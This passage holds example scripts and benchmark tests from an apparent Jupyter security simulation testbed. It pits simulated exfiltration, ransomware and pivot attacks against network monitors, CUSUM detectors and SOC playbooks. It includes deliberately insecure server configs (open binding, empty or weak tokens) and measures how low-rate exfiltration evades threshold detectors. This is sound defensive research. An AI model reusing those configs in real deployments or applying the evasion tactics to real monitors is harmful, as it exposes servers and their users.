    print(f"  first decoy contact t={hp.first_decoy_contact(ip):.2f}  "
          f"first real contact t={hp.first_real_contact(ip):.2f}")
    intel = hp.harvest_intel()
    print(f"  intel: {intel['decoy_interactions']} decoy interactions, "
          f"{intel['new_burned_sources']} burned source(s) published")
    for indicator in hp.fleet.feed.indicators.values():
        print(f"    [{indicator.indicator_type}] {indicator.pattern} "
              f"({indicator.source})")

    # 4. The defended hub: the same pivot meets an automated responder.
    print("\n=== defended hub: the pivot gets contained ===")
    armed = builder.build(spec_preset("defended-hub", seed=42, n_tenants=4,
                                      hub_config=insecure_hub_config()))
    StolenTokenAttack().run(armed)
    first = CrossTenantPivotAttack().run(armed)
    armed.run(10.0)
    again = CrossTenantPivotAttack().run(armed)  # the return wave
    print(f"  first wave:  {first.narrative}")
    print(f"  return wave: {again.narrative}")
    for line in armed.soc.timeline():
        print(f"  {line}")


if __name__ == "__main__":
    main()
