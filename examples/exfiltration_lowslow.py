#!/usr/bin/env python
"""Low-and-slow exfiltration versus two detector designs.

The paper's §IV.A names "low and slow" evasion as a core challenge for
monitor integrity.  This example sweeps the attacker's drip rate and
shows the crossover: the windowed-volume threshold goes blind below its
rate floor, while the CUSUM drift detector keeps catching the trickle —
just later.

Run with:  python examples/exfiltration_lowslow.py
"""

from repro.attacks import LowAndSlowExfiltration
from repro.attacks.scenario import build_scenario


def run_once(bytes_per_burst: int, interval: float) -> dict:
    scenario = build_scenario(seed=31)
    # Tighten CUSUM for the example's short horizon (defaults target hours).
    scenario.monitor.cusum.baseline = 50.0
    scenario.monitor.cusum.slack = 50.0
    scenario.monitor.cusum.h = 15_000.0
    attack = LowAndSlowExfiltration(
        bytes_per_burst=bytes_per_burst, interval_seconds=interval,
        total_bytes=30_000)
    result = attack.run(scenario)
    names = scenario.monitor.logs.notice_names()
    first_cusum = next((n.ts for n in scenario.monitor.logs.notices
                        if n.name == "EXFIL_CUSUM_DRIFT"), None)
    return {
        "rate_Bps": bytes_per_burst / interval,
        "exfiltrated": result.metrics["bytes_exfiltrated"],
        "threshold_detector": "EXFIL_VOLUME" in names,
        "cusum_detector": "EXFIL_CUSUM_DRIFT" in names,
        "cusum_delay": (first_cusum - result.started) if first_cusum else None,
    }


def main() -> None:
    print(f"{'rate B/s':>9s} {'stolen':>7s} {'threshold':>10s} {'cusum':>6s} {'cusum delay':>12s}")
    for burst, interval in [(6000, 2.0), (3000, 5.0), (1500, 10.0),
                            (800, 15.0), (400, 20.0)]:
        row = run_once(burst, interval)
        delay = f"{row['cusum_delay']:.0f}s" if row["cusum_delay"] is not None else "-"
        print(f"{row['rate_Bps']:9.0f} {row['exfiltrated']:7d} "
              f"{str(row['threshold_detector']):>10s} {str(row['cusum_detector']):>6s} "
              f"{delay:>12s}")
    print("\nreading: the threshold detector needs the rate to stay high; "
          "CUSUM trades delay for asymptotic detection of any drift above baseline.")


if __name__ == "__main__":
    main()
