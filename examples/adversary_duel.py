"""Narrated walkthrough: the closed-loop arms race.

Runs the same pressed source-rotation attacker against the defended
sharded hub twice — once against the standard (TTL'd) playbook, once
against the tightened one — and prints both sides' scorecards, showing
exactly where the un-containment path turns a one-shot loss into a
genuine two-player game.

    PYTHONPATH=src python examples/adversary_duel.py
"""

from repro.adversary import AdversaryPolicy, ArmsRaceRunner
from repro.soc.playbook import tightened

PRESSED = AdversaryPolicy(strategy="source-rotation", source_pool_size=1,
                          horizon=400.0)


def main() -> None:
    print("=" * 72)
    print("Round 1: rotation attacker vs the standard playbook")
    print("(blocks expire after 90 quiet seconds — the attacker can wait)")
    print("=" * 72)
    standard = ArmsRaceRunner("adaptive-sharded-hub", seed=7207,
                              adversary=PRESSED, waves=4, n_tenants=6).run()
    print("\n".join(standard.render()))

    print()
    print("=" * 72)
    print("Round 2: the defender tightens the playbook")
    print("(short cooldowns, containment never expires)")
    print("=" * 72)
    tight = ArmsRaceRunner("adaptive-sharded-hub", seed=7207,
                           adversary=PRESSED, waves=4, n_tenants=6,
                           response=tightened()).run()
    print("\n".join(tight.render()))

    print()
    print(f"standard : {standard.agents[0].finish_reason:<18} "
          f"post-detection successes={standard.post_detection_successes} "
          f"loot={standard.bytes_looted}B")
    print(f"tightened: {tight.agents[0].finish_reason:<18} "
          f"post-detection successes={tight.post_detection_successes} "
          f"loot={tight.bytes_looted}B")


if __name__ == "__main__":
    main()
