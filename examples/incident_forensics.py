"""Narrated walkthrough: forensics from telemetry alone.

Runs one closed-loop adversary duel, then *throws the report away* and
reconstructs what happened from the world's telemetry — the bounded
event timeline and the causal trace store — exactly the position a
responder is in when all they have is the observability data.

    PYTHONPATH=src python examples/incident_forensics.py
"""

from repro.adversary import AdversaryPolicy, ArmsRaceRunner
from repro.telemetry.forensics import describe_chain, incident_chain


def main() -> None:
    runner = ArmsRaceRunner("adaptive-sharded-hub", seed=7207,
                            adversary=AdversaryPolicy(
                                strategy="source-rotation",
                                source_pool_size=2, horizon=400.0),
                            waves=4, n_tenants=6)
    runner.run()  # the report is deliberately discarded
    telemetry = runner.scenario.telemetry
    timeline = telemetry.timeline

    print("=" * 72)
    print("1. The duel, replayed from the event timeline alone")
    print("=" * 72)
    story_kinds = ("duel.", "incident.opened", "soc.action",
                   "adversary.evicted", "adversary.reentered",
                   "proxy.block_source")
    for event in timeline.events(story_kinds):
        detail = " ".join(f"{k}={v}" for k, v in sorted(event.detail.items()))
        source = f" src={event.source}" if event.source else ""
        print(f"  {event.ts:8.2f}s  {event.kind:<22}{source}  {detail}")
    if timeline.dropped:
        print(f"  ... ring dropped {timeline.dropped} earlier events")

    print()
    print("=" * 72)
    print("2. Attribution: what each detector saw, by source")
    print("=" * 72)
    hits = {}
    for event in timeline.events(("detector.notice",)):
        key = (event.source, event.detail.get("name", "?"))
        hits[key] = hits.get(key, 0) + 1
    for (source, name), count in sorted(hits.items()):
        print(f"  {source:<18} {name:<28} x{count}")

    print()
    print("=" * 72)
    print("3. Why was the first contained incident contained?")
    print("   (the causal chain, walked root-first from the trace store)")
    print("=" * 72)
    soc = runner.scenario.soc
    contained = [i for i in soc.correlator.by_severity() if i.contained]
    if not contained:
        print("  (no incident was contained this run)")
        return
    incident = contained[0]
    print(f"  incident {incident.incident_id}: {incident.describe()}")
    for line in describe_chain(incident_chain(telemetry.tracer,
                                              incident.span_id)):
        print(line)

    print()
    summary = telemetry.summary()
    print(f"telemetry: {summary['metric_families']} metric families, "
          f"{summary['spans']} spans, "
          f"{summary['timeline_events']} timeline events "
          f"({summary['timeline_dropped']} dropped)")


if __name__ == "__main__":
    main()
