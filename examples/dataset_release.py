#!/usr/bin/env python
"""Build, anonymize, and evaluate the Jupyter Security & Resiliency Data Set.

The paper's §IV.B calls for an open dataset of Jupyter security logs and
flags anonymization as the open problem.  This example builds a labeled
corpus (benign sessions + three attack campaigns), applies three
anonymization levels, and reports the privacy/utility trade-off:
re-identification risk down, detector utility preserved or degraded.

Run with:  python examples/dataset_release.py
"""

from repro.attacks import CryptominingAttack, ExfiltrationAttack, TokenBruteforceAttack
from repro.dataset import (
    AnonymizationPolicy,
    Anonymizer,
    DatasetBuilder,
    k_anonymity,
)
from repro.dataset.anonymize import reidentification_risk
from repro.eval import DetectionEvaluator


def main() -> None:
    builder = DatasetBuilder(seed=2024, benign_sessions=2, benign_cells_per_session=4)
    raw = builder.build([
        TokenBruteforceAttack(delay=0.3),
        ExfiltrationAttack(),
        CryptominingAttack(rounds=4, hashes_per_round=200),
    ])
    print("raw corpus:", DatasetBuilder.summary(raw))

    policies = {
        "raw": AnonymizationPolicy.none(),
        "default": AnonymizationPolicy(),
        "maximal": AnonymizationPolicy.maximal(),
    }
    evaluator = DetectionEvaluator()
    print(f"\n{'policy':>8s} {'k-anon':>6s} {'reid-risk':>9s} {'TPR':>5s} {'FPR':>5s} "
          f"{'code kept':>9s}")
    for name, policy in policies.items():
        records = Anonymizer(policy).anonymize(raw)
        cm = evaluator.evaluate_sources(records)
        has_code = any("code" in r.fields for r in records if r.family == "jupyter")
        print(f"{name:>8s} {k_anonymity(records):6d} "
              f"{reidentification_risk(records):9.3f} "
              f"{cm.tpr:5.2f} {cm.fpr:5.2f} {str(has_code):>9s}")

    # Export the shareable artifact.
    released = Anonymizer(AnonymizationPolicy()).anonymize(raw)
    jsonl = DatasetBuilder.export_jsonl(released)
    path = "/tmp/jupyter_security_dataset.jsonl"
    with open(path, "w") as fh:
        fh.write(jsonl + "\n")
    print(f"\nwrote {len(released)} anonymized records to {path}")
    print("note: labels and notice records survive anonymization, so the")
    print("corpus remains usable for training/evaluating detectors.")


if __name__ == "__main__":
    main()
