#!/usr/bin/env python
"""Quickstart: stand up the simulated world, run a notebook session,
launch an attack, and watch both defenders catch it.

Run with:  python examples/quickstart.py
"""

from repro.attacks import RansomwareAttack
from repro.attacks.scenario import build_scenario
from repro.workload import ScientistWorkload


def main() -> None:
    # 1. Build the standard testbed: campus network, Jupyter server,
    #    network tap + monitor, attacker infrastructure, seeded research data.
    scenario = build_scenario(seed=42)
    print(f"world: {sorted(scenario.network.hosts)}")
    print(f"victim files: {scenario.server.fs.file_count()} "
          f"({scenario.server.fs.total_bytes()} bytes)")

    # 2. A scientist works for a while — benign background traffic.
    report = ScientistWorkload(scenario, username="alice").run_session(cells=6)
    print(f"\nalice ran {report.cells_executed} cells "
          f"({report.errors} errors) over {report.duration:.0f} sim-seconds")
    print(f"notices so far: {scenario.monitor.logs.notice_names() or '(none — clean)'}")

    # 3. Ransomware lands through a stolen session and encrypts everything.
    result = RansomwareAttack(via="kernel").run(scenario)
    print(f"\nattack: {result.narrative}")
    print(f"observed OSCRP concerns: {sorted(c.value for c in result.observed_concerns)}")

    # 4. What did the defenders see?
    print("\n--- network monitor ---")
    for notice in scenario.monitor.logs.notices:
        print(f"  t={notice.ts:8.1f} {notice.severity:9s} {notice.name}")
    print("--- kernel auditor ---")
    for auditor in scenario.auditors.values():
        for notice in auditor.notices:
            print(f"  t={notice.ts:8.1f} {notice.severity:9s} {notice.name}")

    # 5. Forensics: which execution touched the encrypted files?
    #    (the last-attached auditor belongs to the hijacked session)
    auditor = list(scenario.auditors.values())[-1]
    victim = "home/experiments/run0.ipynb"
    print(f"\nprovenance for {victim}:")
    for event in auditor.provenance.file_history(victim):
        print(f"  t={event['ts']:8.1f} {event['relation']:12s} by {event['exec']}")


if __name__ == "__main__":
    main()
