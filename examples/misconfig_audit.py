#!/usr/bin/env python
"""Fleet-wide misconfiguration audit, then proof-by-exploitation.

Scans a fleet of deployment configs (from pristine to the classic
``--ip=0.0.0.0 --token=''`` footgun), then *runs the actual exploit*
against the worst one to show the scanner's grade predicts compromise,
and against its hardened copy to show the remediation works.

Run with:  python examples/misconfig_audit.py
"""

from repro.attacks import OpenServerExploitAttack
from repro.attacks.scenario import build_scenario
from repro.crypto.passwords import hash_password
from repro.misconfig import MisconfigScanner
from repro.server.config import ServerConfig, insecure_demo_config


def fleet() -> list:
    """Five deployments you would actually find on a campus."""
    lab = insecure_demo_config()
    lab.server_name = "lab-gpu-box"
    grad = ServerConfig(server_name="grad-desktop", ip="0.0.0.0", token="letmein",
                        version="6.4.11")
    shared = ServerConfig(server_name="shared-node", ip="0.0.0.0",
                          password_hash=hash_password("hunter2", rounds=500),
                          token="", allow_origin="*")
    managed = ServerConfig(server_name="managed-hub", ip="0.0.0.0",
                           certfile="/etc/tls.crt", keyfile="/etc/tls.key",
                           rate_limit_window_seconds=60, rate_limit_max_requests=300)
    pristine = ServerConfig(server_name="pristine-loopback",
                            rate_limit_window_seconds=60, rate_limit_max_requests=300)
    return [lab, grad, shared, managed, pristine]


def main() -> None:
    scanner = MisconfigScanner()
    reports = scanner.scan_fleet(fleet())
    print(f"{'server':18s} {'grade':5s} {'risk':>5s}  worst findings")
    for report in reports:
        worst = ", ".join(r.check_id for r in report.failures[:3]) or "-"
        print(f"{report.server_name:18s} {report.grade:5s} {report.risk_score:5.0f}  {worst}")

    worst_cfg = fleet()[0]
    print(f"\n=== full report for {worst_cfg.server_name} ===")
    print(scanner.scan(worst_cfg).render())

    # Proof by exploitation: grade F server falls, hardened copy survives.
    print("\n=== exploitation check ===")
    open_sc = build_scenario(config=insecure_demo_config(), seed=9)
    open_result = OpenServerExploitAttack().run(open_sc)
    print(f"grade-F server : {open_result.narrative}")

    hardened = insecure_demo_config().hardened_copy()
    hardened_sc = build_scenario(config=hardened, seed=9)
    try:
        hardened_result = OpenServerExploitAttack().run(hardened_sc)
        print(f"hardened server: {hardened_result.narrative}")
    except Exception as e:
        # The hardened profile binds loopback: the attacker cannot even
        # open a TCP connection — remediation at its most effective.
        print(f"hardened server: unreachable from attacker infrastructure ({e})")

    delta = scanner.hardening_delta(insecure_demo_config())
    print(f"\nhardening removed {delta['reduction']:.0f} risk points "
          f"({delta['before']:.0f} -> {delta['after']:.0f})")


if __name__ == "__main__":
    main()
