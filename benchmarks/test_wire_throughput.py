"""BENCH-WIRE — zero-copy wire pipeline throughput, machine-readable.

This is the perf trajectory for the hot byte path the reverse proxy and
monitor share: WebSocket decode (masked and unmasked), ZMTP multipart
decode, and the full JUPYTER-depth monitor replay on the EXP-OVH
workload.  Every number lands in ``benchmarks/reports/BENCH_WIRE.json``
so future PRs (and the CI perf-smoke job) can diff real throughput
instead of prose.

Regression guard (CI): masked decode must stay within 2x of unmasked —
the seed's per-byte Python XOR made it 6.2x slower; the vectorized
unmask (int.from_bytes XOR, numpy for large frames) is what this PR is
about.  The guard is a *ratio* measured seconds apart in one process,
so noisy CI boxes cannot fake a pass or a fail with absolute numbers.
"""

import json
import os
import time

from _bench_utils import run_metadata
from test_overhead_scaling import TRACE, TRACE_BYTES, replay

from repro.messaging import Session
from repro.monitor import AnalyzerDepth
from repro.wire.websocket import (
    Frame,
    Opcode,
    WebSocketDecoder,
    encode_frame,
    fragment_message,
)
from repro.wire.zmtp import ZmtpDecoder, encode_greeting, encode_multipart

_REPORT_PATH = os.path.join(os.path.dirname(__file__), "reports", "BENCH_WIRE.json")

#: JUPYTER-depth MB/s of the seed tree on this workload, from the
#: committed ``benchmarks/reports/EXP-OVH.txt`` at PR 1.
SEED_JUPYTER_DEPTH_MBPS = 10.0
SEED_MASKED_OVER_UNMASKED = 16.8 / 104.7  # ditto, EXP-WS.txt

RESULTS = {}

# -- workloads (mirrors benchmarks/test_websocket_parsing.py) -----------------
_session = Session(b"bench")
PAYLOAD = _session.execute_request(
    "import numpy as np\nresult = np.linalg.svd(data)\nprint(result)"
).to_websocket_json().encode()
N_MESSAGES = 200

UNMASKED_STREAM = b"".join(
    encode_frame(Frame(True, Opcode.TEXT, PAYLOAD)) for _ in range(N_MESSAGES))
MASKED_STREAM = b"".join(
    encode_frame(Frame(True, Opcode.TEXT, PAYLOAD), mask_key=b"\x12\x34\x56\x78")
    for _ in range(N_MESSAGES))

# Bulk frames (64 KiB payloads) are where unmasking cost is a per-byte
# story rather than per-frame Python dispatch; the CI guard compares
# masked vs unmasked here.  (On ~500 B frames the unmasked decoder is
# essentially a memcpy, so ANY fixed per-frame cost reads as a big
# ratio — those numbers are recorded too, but not the guard.)
_BULK_PAYLOADS = [os.urandom(256 * 1024) for _ in range(8)]
BULK_UNMASKED_STREAM = b"".join(
    encode_frame(Frame(True, Opcode.BINARY, p)) for p in _BULK_PAYLOADS)
BULK_MASKED_STREAM = b"".join(
    encode_frame(Frame(True, Opcode.BINARY, p), mask_key=b"\xde\xad\xbe\xef")
    for p in _BULK_PAYLOADS)
FRAGMENTED_STREAM = b"".join(
    b"".join(fragment_message(PAYLOAD, 256, Opcode.TEXT)) for _ in range(N_MESSAGES))
ZMTP_STREAM = encode_greeting() + b"".join(
    encode_multipart(_session.serialize(_session.execute_request(f"x = {i}")))
    for i in range(N_MESSAGES))


def _best_of(fn, *, rounds: int = 7, inner: int = 3) -> float:
    """Best-of-rounds seconds per call — robust against noisy neighbors."""
    fn()  # warm-up
    best = float("inf")
    for _ in range(rounds):
        t0 = time.perf_counter()
        for _ in range(inner):
            fn()
        best = min(best, (time.perf_counter() - t0) / inner)
    return best


def _decode_ws(stream):
    def run():
        dec = WebSocketDecoder()
        dec.feed(stream)
        assert dec.messages()
    return run


def test_ws_small_frame_throughput():
    """~500 B frames, the EXP-WS continuity numbers."""
    secs = _best_of(_decode_ws(UNMASKED_STREAM))
    RESULTS["ws_unmasked_small_mbps"] = round(len(UNMASKED_STREAM) / secs / 1e6, 1)
    secs = _best_of(_decode_ws(MASKED_STREAM))
    RESULTS["ws_masked_small_mbps"] = round(len(MASKED_STREAM) / secs / 1e6, 1)
    RESULTS["masked_over_unmasked_small_frames"] = round(
        RESULTS["ws_masked_small_mbps"] / RESULTS["ws_unmasked_small_mbps"], 3)


def test_ws_masked_throughput_within_2x_of_unmasked():
    """The CI regression guard: on bulk frames — where unmasking is a
    per-byte cost, not per-frame dispatch — the vectorized unmask must
    keep masked decode at >= 50% of unmasked (the seed's per-byte
    Python XOR managed ~16%).  Unmasked and masked are measured in
    back-to-back pairs and the guard takes the best per-pair ratio, so
    host throughput drifting between rounds cannot fake a regression."""
    unmasked = _decode_ws(BULK_UNMASKED_STREAM)
    masked = _decode_ws(BULK_MASKED_STREAM)
    unmasked(); masked()  # warm-up
    best_u = best_m = float("inf")
    ratios = []
    for _ in range(9):
        t0 = time.perf_counter()
        unmasked()
        t1 = time.perf_counter()
        masked()
        t2 = time.perf_counter()
        secs_u, secs_m = t1 - t0, t2 - t1
        best_u = min(best_u, secs_u)
        best_m = min(best_m, secs_m)
        ratios.append(secs_u / secs_m)
    ratios.sort()
    best_ratio = ratios[-1]
    RESULTS["ws_unmasked_mbps"] = round(len(BULK_UNMASKED_STREAM) / best_u / 1e6, 1)
    RESULTS["ws_masked_mbps"] = round(len(BULK_MASKED_STREAM) / best_m / 1e6, 1)
    RESULTS["masked_over_unmasked"] = round(ratios[len(ratios) // 2], 3)
    RESULTS["masked_over_unmasked_best_pair"] = round(best_ratio, 3)
    RESULTS["seed_masked_over_unmasked"] = round(SEED_MASKED_OVER_UNMASKED, 3)
    assert best_ratio >= 0.5, (
        f"masked decode regressed to {best_ratio:.0%} of unmasked "
        f"(guard: >= 50%; seed was {SEED_MASKED_OVER_UNMASKED:.0%})")


def test_ws_fragmented_throughput():
    secs = _best_of(_decode_ws(FRAGMENTED_STREAM))
    RESULTS["ws_fragmented_mbps"] = round(len(FRAGMENTED_STREAM) / secs / 1e6, 1)


def test_zmtp_throughput():
    def run():
        dec = ZmtpDecoder()
        dec.feed(ZMTP_STREAM)
        assert dec.messages()
    secs = _best_of(run)
    RESULTS["zmtp_mbps"] = round(len(ZMTP_STREAM) / secs / 1e6, 1)


def test_dribble_feed_is_amortized_linear():
    """One 96 KiB masked frame fed in 1-byte chunks: the seed's
    ``buffer += data`` re-slicing made this quadratic (seconds); the
    cursor decoder must stay comfortably in linear territory."""
    frame = encode_frame(Frame(True, Opcode.BINARY, os.urandom(96 * 1024)),
                         mask_key=b"\x01\x02\x03\x04")
    dec = WebSocketDecoder()
    t0 = time.perf_counter()
    for i in range(0, len(frame), 1):
        dec.feed(frame[i : i + 1])
    elapsed = time.perf_counter() - t0
    assert dec.messages(), "frame did not decode"
    RESULTS["dribble_96k_seconds"] = round(elapsed, 4)
    assert elapsed < 1.5, f"1-byte dribble took {elapsed:.2f}s — quadratic again?"


#: Hard CI floor for the headline JUPYTER-depth number: 1.5x the
#: pre-PR-8 20.1 MB/s.  The expected value is ~2x this floor, so host
#: speed swings (we observe ~±30% on shared runners) cannot fake a
#: failure — an actual fast-path regression is what trips it.
JUPYTER_DEPTH_FLOOR_MBPS = 30.2


def _run_batched_replay():
    from repro.monitor import JupyterNetworkMonitor

    JupyterNetworkMonitor(depth=AnalyzerDepth.JUPYTER).replay_segments(
        TRACE, across_connections=True)


def test_monitor_jupyter_depth_on_exp_ovh_workload():
    """Full JUPYTER-depth monitor replay of the EXP-OVH trace.

    The headline ``jupyter_depth_mbps`` is the offline replay fast path
    (``replay_segments(..., across_connections=True)``): batched
    decoder feeds and batched detector dispatch across interleaved
    connections — the path a pcap/trace consumer actually calls.  The
    live per-segment tap path is recorded as
    ``jupyter_depth_live_mbps``; the parity test below proves both see
    the identical protocol picture."""
    # inner=1: one replay costs ~1 ms, so the timer needs no amortizing,
    # and best-of over single runs keeps one GC pause or scheduler blip
    # from contaminating a round's average (with inner=5 it skews all 5).
    live_secs = _best_of(lambda: replay(AnalyzerDepth.JUPYTER), rounds=40, inner=1)
    batched_secs = _best_of(_run_batched_replay, rounds=40, inner=1)
    mbps = TRACE_BYTES / batched_secs / 1e6
    live_mbps = TRACE_BYTES / live_secs / 1e6
    RESULTS["jupyter_depth_mbps"] = round(mbps, 1)
    RESULTS["jupyter_depth_live_mbps"] = round(live_mbps, 1)
    RESULTS["jupyter_depth_trace_bytes"] = TRACE_BYTES
    RESULTS["jupyter_depth_segments"] = len(TRACE)
    RESULTS["seed_jupyter_depth_mbps"] = SEED_JUPYTER_DEPTH_MBPS
    RESULTS["jupyter_depth_speedup_vs_seed"] = round(mbps / SEED_JUPYTER_DEPTH_MBPS, 2)
    RESULTS["jupyter_depth_floor_mbps"] = JUPYTER_DEPTH_FLOOR_MBPS
    assert live_mbps > SEED_JUPYTER_DEPTH_MBPS, "live path slower than the seed"
    assert mbps >= JUPYTER_DEPTH_FLOOR_MBPS, (
        f"JUPYTER-depth replay at {mbps:.1f} MB/s is below the "
        f"{JUPYTER_DEPTH_FLOOR_MBPS} MB/s floor (1.5x pre-fast-path)")


def test_monitor_batched_replay_speedup_and_parity():
    """Batched segment replay vs the live per-segment path on the same
    EXP-OVH trace.

    Parity, contiguous mode: identical counts, notice sequence, and
    byte accounting.  Parity, across-connections mode: ditto — plus the
    per-family record multisets match once the two documented
    relaxations are normalized away (coalesced runs carry the run's
    last timestamp; whichever leg of a deduped WS↔ZMTP message pair
    flushes first performs the one content scan).  Speedup is measured
    in back-to-back live/batched pairs (best pair kept), so host-speed
    drift between rounds cannot fake a pass or a fail."""
    import time

    from repro.monitor import JupyterNetworkMonitor

    per_segment = replay(AnalyzerDepth.JUPYTER)

    contiguous = JupyterNetworkMonitor(depth=AnalyzerDepth.JUPYTER)
    calls = contiguous.replay_segments(TRACE)
    assert calls < len(TRACE), "no segment runs coalesced on this trace"
    assert contiguous.logs.counts() == per_segment.logs.counts()
    assert [n.name for n in contiguous.logs.notices] == \
        [n.name for n in per_segment.logs.notices]
    assert contiguous.health.bytes_seen == per_segment.health.bytes_seen

    across = JupyterNetworkMonitor(depth=AnalyzerDepth.JUPYTER)
    across_calls = across.replay_segments(TRACE, across_connections=True)
    assert across_calls <= calls, "across-connections coalesced less than contiguous"
    assert across.logs.counts() == per_segment.logs.counts()
    assert [n.name for n in across.logs.notices] == \
        [n.name for n in per_segment.logs.notices]
    assert across.health.bytes_seen == per_segment.health.bytes_seen
    assert across.health.jupyter_msgs == per_segment.health.jupyter_msgs
    # Scan-work parity: the same total code reaches the signature engine
    # exactly once per message, whichever leg carried it.
    assert sorted(len(j.code) for j in across.logs.jupyter) == \
        sorted(len(j.code) for j in per_segment.logs.jupyter)
    assert sorted(j.msg_type for j in across.logs.jupyter) == \
        sorted(j.msg_type for j in per_segment.logs.jupyter)

    def run_live():
        m = JupyterNetworkMonitor(depth=AnalyzerDepth.JUPYTER)
        for seg in TRACE:
            m.on_segment(seg)

    run_live(); _run_batched_replay()  # warm-up
    best_live = best_batched = float("inf")
    ratios = []
    for _ in range(10):
        t0 = time.perf_counter()
        run_live()
        t1 = time.perf_counter()
        _run_batched_replay()
        t2 = time.perf_counter()
        best_live = min(best_live, t1 - t0)
        best_batched = min(best_batched, t2 - t1)
        ratios.append((t1 - t0) / (t2 - t1))
    speedup = max(ratios)
    RESULTS["jupyter_depth_batched_mbps"] = round(TRACE_BYTES / best_batched / 1e6, 1)
    RESULTS["batched_analyzer_calls"] = across_calls
    RESULTS["contiguous_analyzer_calls"] = calls
    RESULTS["unbatched_analyzer_calls"] = len(TRACE)
    RESULTS["batched_replay_speedup"] = round(speedup, 2)
    assert speedup >= 1.1, (
        f"batched replay only {speedup:.2f}x the live path (floor 1.1x)")


def _record_bulk_trace(cells: int = 4, size: int = 200_000):
    """A kernel session with large outputs: each message spans ~143 MSS
    segments of one connection+direction — the long-run shape batching
    exists for (EXP-OVH's interactive trace averages ~2 segments/run)."""
    from repro.server import (
        JupyterServer,
        ServerConfig,
        ServerGateway,
        WebSocketKernelClient,
    )
    from repro.simnet import Network

    net = Network(default_latency=0.001)
    server_host = net.add_host("jupyter", "10.0.0.1")
    client_host = net.add_host("laptop", "10.0.0.2")
    tap = net.add_tap()
    server = JupyterServer(ServerConfig(ip="0.0.0.0", token="tok"), net, server_host)
    ServerGateway(server)
    client = WebSocketKernelClient(client_host, server_host, token="tok")
    client.start_kernel()
    client.connect_channels()
    for _ in range(cells):
        client.execute(f"print('x' * {size})", wait=60.0)
    return tap.segments


def test_monitor_batched_replay_bulk_trace():
    """The before/after number on the bulk-run workload, recorded to
    BENCH_WIRE.json (per-segment vs batched, identical decode)."""
    from repro.monitor import JupyterNetworkMonitor

    trace = _record_bulk_trace()
    trace_bytes = sum(s.size for s in trace)

    def per_segment():
        monitor = JupyterNetworkMonitor(depth=AnalyzerDepth.JUPYTER)
        for seg in trace:
            monitor.on_segment(seg)
        return monitor

    def batched():
        monitor = JupyterNetworkMonitor(depth=AnalyzerDepth.JUPYTER)
        monitor.replay_segments(trace)
        return monitor

    assert per_segment().logs.counts() == batched().logs.counts()
    secs_per = _best_of(per_segment, rounds=5, inner=2)
    secs_batch = _best_of(batched, rounds=5, inner=2)
    RESULTS["bulk_trace_per_segment_mbps"] = round(trace_bytes / secs_per / 1e6, 1)
    RESULTS["bulk_trace_batched_mbps"] = round(trace_bytes / secs_batch / 1e6, 1)
    RESULTS["bulk_trace_batched_speedup"] = round(secs_per / secs_batch, 2)
    # Soft floor: batching must never *cost* throughput (ratio measured
    # back-to-back in one process, same robustness story as the WS guard).
    assert secs_batch <= secs_per * 1.15, (
        f"batched replay slower than per-segment "
        f"({secs_batch:.4f}s vs {secs_per:.4f}s)")


def test_write_bench_wire_json():
    """Persist the machine-readable report (runs last in this module)."""
    assert "ws_masked_mbps" in RESULTS and "jupyter_depth_mbps" in RESULTS
    os.makedirs(os.path.dirname(_REPORT_PATH), exist_ok=True)
    payload = {
        "benchmark": "BENCH-WIRE",
        "methodology": "best-of-rounds wall clock, single process",
        "guard": "ws_masked_mbps >= 0.5 * ws_unmasked_mbps",
        "meta": run_metadata(),
        **RESULTS,
    }
    with open(_REPORT_PATH, "w") as fh:
        json.dump(payload, fh, indent=2, sort_keys=True)
        fh.write("\n")
    print(json.dumps(payload, indent=2, sort_keys=True))