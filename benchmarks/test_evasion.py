"""EXP-EVADE — evasion attacks against the monitor (paper §IV.A).

Two sub-experiments:

1. Low-and-slow exfiltration: detection outcome vs drip rate for the
   windowed-threshold detector and the CUSUM drift detector.  Expected
   shape: threshold goes blind below its rate floor; CUSUM keeps
   detecting (later) down to its baseline+slack floor.
2. Adversarial rule inference: probes needed to recover the egress
   threshold to <5%, and whether the learned value enables evasion.
"""

import pytest
from _bench_utils import report

from repro.attacks import RuleInferenceAttack
from repro.attacks.scenario import build_scenario
from repro.monitor.anomaly import CusumEgressDetector, EgressVolumeDetector

SRC, DST = "10.0.0.10", "203.0.113.66"
HORIZON = 3600.0  # one simulated hour of dripping


def drip(detector_factory, rate_bps: float, burst: int = 500):
    """Feed a constant-rate drip; return (detected, first_detection_ts)."""
    det = detector_factory()
    interval = burst / rate_bps
    t = 0.0
    while t < HORIZON:
        notice = det.observe_bytes(t, SRC, DST, burst)
        if notice is not None:
            return True, t
        t += interval
    return False, None


def make_threshold():
    return EgressVolumeDetector(window=60.0, threshold_bytes=60_000)


def make_cusum():
    return CusumEgressDetector(bucket_seconds=10.0, baseline_bytes=500.0,
                               slack_bytes=500.0, decision_threshold=100_000.0)


RATES = [16_000, 4_000, 1_000, 500, 250, 120, 50]


def test_lowslow_crossover_sweep(benchmark):
    def sweep():
        rows = []
        for rate in RATES:
            th_hit, th_ts = drip(make_threshold, rate)
            cu_hit, cu_ts = drip(make_cusum, rate)
            rows.append((rate, th_hit, th_ts, cu_hit, cu_ts))
        return rows

    rows = benchmark.pedantic(sweep, rounds=1, iterations=1)
    report("EXP-EVADE", "=== low-and-slow: detection vs drip rate (1h horizon) ===")
    report("EXP-EVADE", f"{'rate B/s':>9s} {'threshold':>10s} {'at':>8s} {'cusum':>6s} {'at':>8s}")
    for rate, th_hit, th_ts, cu_hit, cu_ts in rows:
        th_at = "-" if th_ts is None else f"{th_ts:.0f}s"
        cu_at = "-" if cu_ts is None else f"{cu_ts:.0f}s"
        report("EXP-EVADE",
               f"{rate:9d} {str(th_hit):>10s} {th_at:>8s} {str(cu_hit):>6s} {cu_at:>8s}")
    # Paper shape: threshold detector is blind at low rates where CUSUM isn't.
    th = {rate: hit for rate, hit, _, cu, _2 in rows}
    cu = {rate: cuh for rate, hit, _, cuh, _2 in rows}
    assert th[16_000] and cu[16_000]          # loud exfil: both catch it
    blind_rates = [r for r in RATES if not th[r]]
    assert blind_rates, "threshold detector was never evaded"
    assert any(cu[r] for r in blind_rates), "CUSUM caught nothing the threshold missed"
    # CUSUM detects later than the threshold when both fire.
    both = [(t, c) for _, th_h, t, cu_h, c in rows if th_h and cu_h]
    assert all(c >= t for t, c in both)


def test_cusum_delay_grows_as_rate_falls(benchmark):
    def delays():
        out = []
        for rate in (4_000, 1_000, 250):
            _, ts = drip(make_cusum, rate)
            out.append((rate, ts))
        return out

    rows = benchmark.pedantic(delays, rounds=1, iterations=1)
    detected = [(r, t) for r, t in rows if t is not None]
    assert len(detected) >= 2
